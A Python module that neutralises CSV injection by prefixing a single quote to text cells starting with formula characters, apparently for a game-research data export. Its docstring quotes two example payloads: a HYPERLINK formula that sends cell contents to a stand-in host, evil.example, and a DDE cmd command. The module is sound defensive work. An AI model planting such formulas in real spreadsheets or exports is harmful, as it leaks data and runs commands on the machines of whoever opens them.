"""CSV cells a spreadsheet cannot run (OWASP, "CSV Injection").

A player's line ``=HYPERLINK("http://evil.example/?"&A1,"click")`` or ``+cmd|' /C calc'!A0``
written as typed into a CSV table is a live formula in Excel or LibreOffice, where
researchers open the export. A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return gets a single quote in front (the spreadsheet then shows it as text); every
other cell is written as it is. Only the CSV tables are treated so: the JSON lines and the
LLMafia files keep the exact text (docs/research.md).
"""

from __future__ import annotations

import re
from typing import Any

__all__ = ["FORMULA_STARTS", "inert_cell"]

#: the first characters that make a spreadsheet read a cell as a formula (or DDE command)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


#: a plain number ("-12", "+3.5"): a spreadsheet reads it as that number, never as a formula
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def inert_cell(value: Any) -> Any:
    """``value`` with a leading single quote if it is text a spreadsheet would evaluate (a
    plain signed number stays as it is: it is read as the number)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value
